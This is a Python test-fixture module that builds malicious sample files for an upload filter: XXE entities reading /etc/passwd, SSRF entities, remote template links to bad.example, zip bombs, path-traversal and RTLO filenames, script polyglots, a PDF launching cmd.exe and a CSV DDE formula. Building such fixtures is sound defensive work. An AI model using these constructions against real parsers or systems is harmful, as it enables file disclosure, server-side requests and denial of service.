"""Files that mean harm, beyond those of factories.py: what browsers, office programs and unpackers were tricked with."""

import io
import re
import struct
import zipfile
import zlib

from PIL import Image

from tests.commons.factories import MAIN, OOXML, office, open_document, pdf, picture, zipped

DOCUMENT = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>'
SCRIPT = b"<html><script>alert(1)</script>"
TEMPLATE = (
    '<Relationships><Relationship Id="r" Target="http://bad.example/x.dotm" TargetMode="External"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def word(declared: str = "", **parts: bytes | str) -> bytes:
    """A Word document; declared: before its text; parts: by path with / for __ and . for _dot_."""
    told = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return office("docx", {"word/document.xml": declared + DOCUMENT, **told})


def lying_zip(real: int = 30_000_000, declared: int = 1_000) -> bytes:
    """One entry that says it is small and unpacks to much more."""
    raw = bytearray(zipped({"a.txt": b"\0" * real}))
    for at in (22, raw.rfind(b"PK\x01\x02") + 24):
        raw[at : at + 4] = struct.pack("<I", declared)
    return bytes(raw)


def overlapping_zip(entries: int, size: int) -> bytes:
    """Many entries that share the same packed bytes, so that a small file unpacks to any size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data, crc = packer.compress(b"\0" * size) + packer.flush(), zlib.crc32(b"\0" * size)
    sizes = (crc, len(data), size, 5, 0)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, *sizes) + b"a.txt" + data
    table = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, *sizes, 0, 0, 0, 0, 0)
        + b"%05d" % number
        for number in range(entries)
    )
    return (
        local
        + table
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(table), len(local), 0)
    )


def packed_in(method: int) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", method) as archive:
        archive.writestr("a.txt", b"\0" * 29_000_000)
    return raw.getvalue()


def nested(depth: int) -> bytes:
    inner = zipped({"a.txt": "x"})
    for _ in range(depth):
        inner = zipped({"inner.zip": inner})
    return inner


def page_of(stream: bytes) -> bytes:
    """A PDF whose one page unpacks to much more than it says."""
    packed = zlib.compress(stream)
    said = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    return re.sub(rb"<</Length \d+>>stream\n.*?\nendstream", lambda _match: said, pdf(), flags=re.DOTALL)


def film(frames: int) -> bytes:
    pictures = [Image.new("P", (40, 40), number % 255) for number in range(frames)]
    for number, one in enumerate(pictures):
        one.putpixel((number % 40, number // 40 % 40), 255 - number % 200)
    raw = io.BytesIO()
    pictures[0].save(raw, "GIF", save_all=True, append_images=pictures[1:])
    return raw.getvalue()


def refused() -> dict[str, bytes]:
    """Not taken at all."""
    return {
        "external.docx": word('<!DOCTYPE x [<!ENTITY a SYSTEM "file:' + '///etc/passwd">]>'),
        "parameter.docx": word('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1/x">%a;]>'),
        "dtd.docx": word('<!DOCTYPE x SYSTEM "http://127.0.0.1/x.dtd">'),
        "laughs.docx": word('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'),
        "entities.odt": open_document("odt", extra={"styles.xml": '<!DOCTYPE x [<!ENTITY a "ha">]><x/>'}),
        "template.docx": word(word___rels__settings_dot_xml_dot_rels=TEMPLATE),
        "controls.docx": word(word__activeX__activeX1_dot_bin=b"x"),
        "old-macros.xlsx": office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "program.docx": word(word__embeddings__setup_dot_exe=b"MZ"),
        "macros-within.pptx": office("pptx", {"ppt/embeddings/book.xlsm": b"PK"}),
        "template-type.docx": office(
            "docx", main=f"{OOXML}{MAIN['docx']}".replace("document.main", "template.main")
        ),
        "bomb.xlsx": office(
            "xlsx", {"xl/sharedStrings.xml": "<sst>" + "<si><t>abc</t></si>" * 2_000_000 + "</sst>"}
        ),
        "lying.zip": lying_zip(),
        "overlapping.zip": overlapping_zip(400, 1_000_000),
        "few-overlapping.zip": overlapping_zip(25, 1_000_000),
        "quine-like.zip": nested(6),
        "drive.zip": zipped({"C:\\Windows\\x.txt": "x"}),
        "backslash.zip": zipped({"..\\..\\x.txt": "x"}),
        "nul.zip": zipped({"a.txt": "x"}).replace(b"a.txt", b"a\0.tx"),
        "page-before.zip": b"PK\x03\x04" + SCRIPT + zipped({"a.txt": "x"}),
        "program-before.zip": b"MZ" + zipped({"a.txt": "x"}),
        "stream.zip": zipped({"a.txt:evil.exe": "x"}),
        "blank-ending.zip": zipped({"setup.exe .": "x"}),
        "turned.zip": zipped({"a\u202etxt.exe": "x"}),
        "page-within.zip": zipped({"index.html": SCRIPT}),
        "drawing-within.zip": zipped({"a.svg": "<svg/>"}),
        "page-after.pdf": pdf() + b"\n" + SCRIPT + b"\n" + zipped({"a.txt": "x"}),
        "wide.txt": SCRIPT.decode().encode("utf-16"),
        "film.gif": film(700),
        "page.webp": SCRIPT,
        "turned\u202efdp.exe": b"MZ",
        "..%2f..%2fplan.pdf%00.html": SCRIPT,
    }


def harmless() -> dict[str, bytes]:
    """Taken, because honest files look alike; they end in the limited child and leave as what they say they are."""
    return {
        "ten-thousand.pdf": pdf(pages=10_000),
        "loop.pdf": pdf().replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]"),
        "count.pdf": pdf().replace(b"/Count 1", b"/Count 99999999"),
        "vast-page.pdf": pdf().replace(b"0 0 595 842", b"0 0 9999999 99999"),
        "thin-page.pdf": pdf().replace(b"0 0 595 842", b"0 0 0.01 900000"),
        "script.pdf": pdf().replace(
            b"/Pages 2 0 R", b"/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
        ),
        "launch.pdf": pdf().replace(b"/Pages 2 0 R", b"/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "unpacking.pdf": page_of(b"q " * 60_000_000),
        "words-after.gif": picture("GIF") + b"*/=1;alert(1)//",
        "comment.jpg": picture("JPEG", comment=SCRIPT),
        "late.txt": b"a" * 5_000 + SCRIPT,
        "letters.txt": b"a" * 20_000_000,
        "seven.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "formula.csv": b"=cmd|' /C calc'!A0,1\n",
        "commas.csv": b"," * 5_000_000,
        "deep.docx": office("docx", {"word/document.xml": '<w:document xmlns:w="x">' + "<w:p>" * 300_000}),
        "rows.xlsx": office(
            "xlsx",
            {
                "xl/worksheets/sheet1.xml": "<worksheet><sheetData>"
                + "<row><c t='inlineStr'><is><t>x</t></is></c></row>" * 400_000
                + "</sheetData></worksheet>"
            },
        ),
        "bzip.zip": packed_in(zipfile.ZIP_BZIP2),
        "lzma.zip": packed_in(zipfile.ZIP_LZMA),
        "tag.mp3": b"ID3\x04\0\0\0\0\0\0" + SCRIPT,
        "drawing.docx": word(word__media__image2_dot_svg="<svg/>"),  # Word keeps drawings so
        "old-manifest.odt": open_document(
            "odt",
            extra={"META-INF/manifest.xml": '<!DOCTYPE manifest:manifest PUBLIC "-//x" "Manifest.dtd"><m/>'},
        ),
    }
